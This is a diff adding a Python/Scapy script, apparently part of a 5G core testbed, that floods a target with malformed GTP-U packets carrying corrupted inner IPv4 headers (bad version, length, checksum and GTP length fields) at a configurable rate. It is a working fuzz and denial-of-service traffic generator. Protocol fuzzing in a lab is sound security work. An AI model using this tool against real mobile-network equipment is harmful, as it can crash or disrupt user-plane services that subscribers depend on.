@@ -0,0 +1,53 @@
+#!/usr/bin/env python3
+"""Malformed GTP-U packets with corrupted inner packets.
+
+Sends GTP-U G-PDUs whose length fields disagree with the payload and whose
+inner IPv4 headers carry broken versions, lengths and checksums.
+
+Settings come from the environment set by the backend launcher:
+TARGET_IP, PACKET_RATE, PAYLOAD_SIZE, DURATION, TEID_MIN and TEID_MAX (random
+TEIDs when unset).
+"""
+
+import os
+import random
+import time
+
+from scapy.all import IP, UDP, Raw, send
+from scapy.contrib.gtp import GTP_U_Header
+
+TARGET_IP = os.environ.get("TARGET_IP", "10.42.0.64")
+PACKET_RATE = int(os.environ.get("PACKET_RATE", "100"))
+PAYLOAD_SIZE = int(os.environ.get("PAYLOAD_SIZE", "32"))
+DURATION = int(os.environ.get("DURATION", "0"))
+TEID_MIN = int(os.environ.get("TEID_MIN", "0"))
+TEID_MAX = int(os.environ.get("TEID_MAX", "4294967295"))
+INTERFACE = "uesimtun0"
+
+
+def corrupted_inner():
+    inner = bytearray(bytes(IP(dst="10.45.0.1") / UDP(dport=9) / Raw(b"x" * PAYLOAD_SIZE)))
+    inner[0] = (random.choice([0, 5, 15]) << 4) | (inner[0] & 0x0F)  # bad version
+    inner[2:4] = random.getrandbits(16).to_bytes(2, "big")  # bad total length
+    inner[10:12] = b"\xde\xad"  # bad checksum
+    return bytes(inner)
+
+
+def main():
+    interval = 1.0 / PACKET_RATE if PACKET_RATE > 0 else 0
+    deadline = time.time() + DURATION if DURATION > 0 else None
+    sent = 0
+    while deadline is None or time.time() < deadline:
+        gtp = GTP_U_Header(teid=random.randint(TEID_MIN, TEID_MAX),
+                           length=random.choice([0, 1, 0xFFFF]))
+        send(IP(dst=TARGET_IP) / UDP(sport=2152, dport=2152) / gtp / Raw(corrupted_inner()),
+             iface=INTERFACE, verbose=False)
+        sent += 1
+        if sent % 1000 == 0:
+            print("sent %d malformed packets" % sent, flush=True)
+        if interval:
+            time.sleep(interval)
+
+
+if __name__ == "__main__":
+    main()